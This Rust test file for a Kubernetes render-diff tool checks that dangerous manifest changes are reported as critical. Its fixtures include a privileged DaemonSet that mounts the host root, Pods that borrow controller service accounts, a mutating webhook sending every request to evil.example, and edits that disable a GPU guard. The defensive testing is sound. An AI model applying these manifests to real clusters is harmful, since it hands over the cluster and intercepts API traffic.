//! The coverage of the report: changes that hand over the cluster or switch the gate off are findings,
//! and this project's own values are judged.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::Value;
use tts_render::budget::Budget;
use tts_render::diff::input::{self, Comparison};
use tts_render::diff::{Diff, Snapshot};
use tts_render::project::Project;
use tts_render::project::load::{LoadedStack, Request};
use tts_render::values::Assignment;

use crate::common::tool::Sandbox;
use crate::review::{NOW, commit, committed, diff, first_line};

/// A change of rendered files: a new file, or a replacement in the files of the guard and of `down`.
enum Edit {
    New(&'static str),
    Jobs(&'static str, &'static str),
}

use Edit::{Jobs, New};

const EDITS: &[(&str, Edit)] = &[
    (
        "a privileged DaemonSet beside a controller",
        New(
            "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: agent, namespace: kyverno}\nspec:\n  selector: {matchLabels: {a: b}}\n  template:\n    metadata: {labels: {a: b}}\n    spec:\n      hostPID: true\n      serviceAccountName: kyverno-admission-controller\n      containers: [{name: c, image: i, securityContext: {privileged: true}}]\n      volumes: [{name: root, hostPath: {path: /}}]\n",
        ),
    ),
    (
        "a Pod with a controller's service account",
        New(
            "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: kube-system}\nspec: {serviceAccountName: clusterrole-aggregation-controller, containers: [{name: c, image: i}]}\n",
        ),
    ),
    (
        "a webhook for every request",
        New(
            "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: w}\nwebhooks: [{name: w.example, clientConfig: {url: 'https://evil.example/'}, rules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*']}]}]\n",
        ),
    ),
    (
        "a second GPU workload without a gate",
        New(
            "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: second, namespace: tts}\nspec:\n  replicas: 1\n  selector: {matchLabels: {a: b}}\n  template:\n    metadata: {labels: {a: b}}\n    spec:\n      containers: [{name: c, image: i, resources: {limits: {nvidia.com/gpu: 1}}}]\n",
        ),
    ),
    ("another command", Jobs("                - /vram-gate\n", "                - /bin/true\n")),
    ("another image", Jobs("forgejo.viktorbarzin.me/viktor/vram-gate:0.1.0", "busybox")),
    (
        "another service account",
        Jobs("serviceAccountName: chatterbox-offpeak", "serviceAccountName: default"),
    ),
    (
        "no token",
        Jobs(
            "          restartPolicy:",
            "          automountServiceAccountToken: false\n          restartPolicy:",
        ),
    ),
    (
        "a node that does not exist",
        Jobs(
            "          restartPolicy:",
            "          nodeSelector: {nowhere: \"true\"}\n          restartPolicy:",
        ),
    ),
    ("no parallel Pods", Jobs("      backoffLimit:", "      parallelism: 0\n      backoffLimit:")),
    ("suspended Jobs", Jobs("      backoffLimit:", "      suspend: true\n      backoffLimit:")),
    ("too little memory", Jobs("memory: 128Mi", "memory: 1Mi")),
    (
        "a deadline of a second",
        Jobs("      activeDeadlineSeconds: 140", "      activeDeadlineSeconds: 1"),
    ),
    ("no time to start", Jobs("  startingDeadlineSeconds:", "  startingDeadlineSeconds: 1 #")),
    (
        "an init container that waits",
        Jobs(
            "          containers:",
            "          initContainers: [{name: wait, image: busybox, command: [sleep, \"1000\"]}]\n          containers:",
        ),
    ),
];

const STOPPING: [&str; 2] =
    ["tts/cronjob-chatterbox-vram-guard.yaml", "tts/cronjob-chatterbox-window-down.yaml"];

#[test]
fn changes_that_hand_over_the_cluster_or_switch_the_gate_off_are_critical() {
    let sandbox = committed();
    for (name, edit) in EDITS {
        sandbox.ok(&["render", "--out", "changed", "--force"]);
        let added = sandbox.path("changed/tts/added.yaml");
        match edit {
            New(text) => {
                sandbox.write("changed/tts/added.yaml", text);
            }
            Jobs(from, to) => {
                for file in STOPPING {
                    sandbox.replace(&format!("changed/{file}"), from, to);
                }
            }
        }
        let args = ["--base-dir", "rendered", "--head", "changed", "--fail-on", "critical"];
        let ran = diff(&sandbox, &args);
        assert_eq!(ran.code, 1, "{name}: {}{}", ran.stdout, ran.stderr);
        assert!(!first_line(&ran).starts_with("0 critical"), "{name}: {}", ran.stdout);
        if let Jobs(..) = edit {
            assert!(ran.stdout.contains("[guard-weakened]"), "{name}: {}", ran.stdout);
        }
        let _ = std::fs::remove_file(added);
    }
}

#[test]
fn what_is_not_judged_is_in_every_format_and_counts_as_a_warning() {
    let sandbox = committed();
    sandbox.ok(&["render", "--out", "changed"]);
    let file = "changed/tts/deployment-chatterbox-tts.yaml";
    sandbox.replace(file, "      nodeSelector:", "      dnsPolicy: Default\n      nodeSelector:");
    let run = |args: &[&str]| {
        diff(&sandbox, &[&["--base-dir", "rendered", "--head", "changed"], args].concat())
    };
    for format in ["text", "markdown", "html", "json", "github"] {
        let ran = run(&["--format", format]);
        assert_eq!(ran.code, 1, "{}", ran.stderr);
        assert!(ran.stdout.contains(", 1 not judged · 1 of "), "{format}: {}", ran.stdout);
        assert!(ran.stdout.contains("spec.template.spec.dnsPolicy"), "{format}: {}", ran.stdout);
    }
    let json: Value = serde_json::from_str(&run(&["--format", "json"]).stdout).expect("JSON");
    assert_eq!(json["notJudged"][0]["paths"][0], "spec.template.spec.dnsPolicy");
    assert_eq!(json["counts"]["warning"], 0, "{json:#}");
    assert_eq!(run(&["--fail-on", "warning"]).code, 1);
    assert_eq!(run(&["--fail-on", "critical"]).code, 0);
}

/// The values whose changes are not judged, or only in part, each with the reason.
const NOT_JUDGED: &[(&str, &str)] = &[
    ("namespace.annotations", ANNOTATION),
    ("server.annotations", ANNOTATION),
    ("server.podAnnotations", ANNOTATION),
    ("service.annotations", ANNOTATION),
    ("storage.annotations", ANNOTATION),
    ("gate.annotations", ANNOTATION),
    ("commonAnnotations", ANNOTATION),
    ("commonLabels", LABEL),
    ("dashboard", LABEL),
    ("server.labels", LABEL),
    ("server.podLabels", LABEL),
    ("service.labels", LABEL),
    ("storage.labels", LABEL),
    ("gate.labels", LABEL),
];

const LABEL: &str = "a label may be what a selector of any policy or controller matches: its effect depends on its name";

const ANNOTATION: &str =
    "an annotation may instruct any controller or injector: its effect depends on its name";

/// The snapshots before and after an assignment.
fn snapshots(sandbox: &Sandbox, assignment: &str) -> Option<(Snapshot, Snapshot)> {
    let assignments = vec![Assignment::parse(assignment).ok()?];
    let request = Request { assignments, ..Request::default() };
    let base = sandbox.path("rendered");
    let comparison = Comparison {
        base: input::Base::Folder(&base),
        head: None::<&Path>,
        rendered_folder: "rendered",
        request: &request,
    };
    let inputs = input::load(&Project::new(sandbox.path("")), &comparison).ok()?;
    Some((inputs.base, inputs.head))
}

#[test]
fn changes_of_the_projects_own_values_are_judged() {
    let sandbox = committed();
    let project = Project::new(sandbox.path(""));
    let opened = LoadedStack::load_all(&project, &Request::default()).expect("it loads");
    let now = NOW.parse().expect("a time");
    let (mut found, mut tried) = (BTreeSet::new(), 0);
    let mut unjudged = Vec::new();
    for influence in opened[0].subject().influences() {
        let Some(value) = influence.changed_to.filter(|_| !influence.fields.is_empty()) else {
            continue;
        };
        let value = match value.strip_prefix("- ") {
            Some(item) => format!("[{item}]"),
            None if value.contains(": ") => format!("{{{value}}}"),
            None => value,
        };
        let path = influence.value.to_string();
        let Some((base, head)) = snapshots(&sandbox, &format!("{path}={value}")) else { continue };
        tried += 1;
        let report = Diff::between(&base, &head, now, None, &Budget::default()).unwrap();
        let fields: Vec<String> = report
            .not_judged
            .iter()
            .map(|one| format!("{}: {}", one.object, one.fields.join(", ")))
            .collect();
        let known = NOT_JUDGED.iter().find(|(known, _)| path.starts_with(known));
        match known {
            Some((known, _)) if !fields.is_empty() => {
                found.insert(*known);
            }
            _ if !fields.is_empty() => unjudged.push(format!("{path}={value}: {fields:?}")),
            _ => {}
        }
    }
    assert!(tried > 80, "{tried}");
    assert!(unjudged.is_empty(), "{tried} tried\n{}", unjudged.join("\n"));
    let stale: Vec<_> = NOT_JUDGED.iter().filter(|(path, _)| !found.contains(path)).collect();
    assert!(stale.is_empty(), "{stale:?}");
}

#[test]
fn a_new_allow_comment_is_reported_even_if_no_object_changes() {
    let sandbox = committed();
    let comment = "# tts-render: allow guard-suspended: just for now\nname: tts\n";
    sandbox.replace("values/tts.yaml", "\nname: tts\n", &format!("\n{comment}"));
    let ran = diff(&sandbox, &["--fail-on", "warning"]);
    assert_eq!(ran.code, 1, "{}{}", ran.stdout, ran.stderr);
    assert!(
        first_line(&ran).starts_with("0 critical, 1 warning · no difference in "),
        "{}",
        ran.stdout
    );
    assert!(
        ran.stdout.contains("`values/tts.yaml` newly allows `guard-suspended`"),
        "{}",
        ran.stdout
    );
}

#[test]
fn a_new_allow_comment_is_reported_wherever_lint_reads_it() {
    const COMMENT: &str = "# tts-render: allow guard-suspended: just for now\n";
    let sandbox = committed();
    let template = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: extra\n";
    let old = "# tts-render: allow image-moving-tag: it was there\n";
    sandbox.write("templates/extra.yaml.j2", format!("{old}{template}"));
    sandbox.write("overlays/night.yaml", format!("{old}gate: {{}}\n"));
    sandbox.ok(&["render"]);
    commit(&sandbox);
    let unchanged = diff(&sandbox, &["-f", "overlays/night.yaml"]);
    assert!(!unchanged.stdout.contains("newly allows"), "{}", unchanged.stdout);

    let policy = sandbox.path("policies").read_dir().unwrap().next().unwrap().unwrap().file_name();
    let policy = format!("policies/{}", policy.to_str().unwrap());
    for file in ["templates/extra.yaml.j2", "overlays/night.yaml", &policy] {
        let text = std::fs::read_to_string(sandbox.path(file)).unwrap();
        sandbox.write(file, format!("{COMMENT}{text}"));
        let ran = diff(&sandbox, &["-f", "overlays/night.yaml", "--fail-on", "warning"]);
        assert_eq!(ran.code, 1, "{file}: {}{}", ran.stdout, ran.stderr);
        let line = format!("`{file}` newly allows `guard-suspended`");
        assert_eq!(ran.stdout.matches(&line).count(), 1, "{file}: {}", ran.stdout);
        sandbox.write(file, text);
    }

    // A file that the base does not have.
    sandbox.write("templates/new.yaml.j2", format!("{COMMENT}{{% if false %}}\n{{% endif %}}\n"));
    let ran = diff(&sandbox, &[]);
    assert!(ran.stdout.contains("`templates/new.yaml.j2` newly allows"), "{}", ran.stdout);
}
